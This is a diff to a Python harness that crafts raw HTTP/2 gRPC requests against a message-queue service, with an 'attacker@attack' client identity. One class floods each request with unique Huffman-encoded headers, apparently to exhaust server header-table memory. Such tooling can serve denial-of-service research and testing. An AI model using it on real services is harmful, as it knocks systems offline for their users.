@@ -184,22 +184,21 @@ class NormalClient:
 
 
 # == raw HTTP/2 =====================================================================================
-REQUEST_HEADERS = (
-    literal(b":method", b"POST")
-    + literal(b":scheme", b"http")
-    + literal(b":authority", b"attack")
-    + literal(b"content-type", b"application/grpc")
-    + literal(b"te", b"trailers")
-    + literal(b"x-mq-client-id", b"attacker@attack")
-)
+def request_headers(method: str) -> list[tuple[bytes, bytes]]:
+    """A gRPC request's headers, pseudo-headers first as RFC 9113 asks."""
+    return [
+        (b":method", b"POST"),
+        (b":scheme", b"http"),
+        (b":path", (SERVICE + method).encode()),
+        (b":authority", b"attack"),
+        (b"content-type", b"application/grpc"),
+        (b"te", b"trailers"),
+        (b"x-mq-client-id", b"attacker@attack"),
+    ]
 
 
 def request_block(method: str, *extra: tuple[bytes, bytes]) -> bytes:
-    return (
-        REQUEST_HEADERS
-        + literal(b":path", (SERVICE + method).encode())
-        + b"".join(literal(*h) for h in extra)
-    )
+    return b"".join(literal(*h) for h in (*request_headers(method), *extra))
 
 
 def grpc_message(body: bytes, compressed: bool = False) -> bytes:
@@ -362,8 +361,11 @@ class _UniqueHuffman:
 
     def __call__(self, stream_id: int) -> bytes:
         self.count += 1
-        fields = [(f"x-unique-{self.count}-{i}", f"{self.count:012d}{i:04d}" * 16) for i in range(8)]
-        block = self.encoder.encode(fields, huffman=True) + request_block("QueryRoute")
+        fields = [
+            (f"x-unique-{self.count}-{i}".encode(), f"{self.count:012d}{i:04d}".encode() * 16)
+            for i in range(8)
+        ]
+        block = self.encoder.encode([*request_headers("QueryRoute"), *fields], huffman=True)
         body = PB.QueryRouteRequest(topic=PB.Resource(name=TOPIC)).SerializeToString()
         return frame(HEADERS, END_HEADERS, stream_id, block) + frame(
             DATA, END_STREAM, stream_id, grpc_message(body)
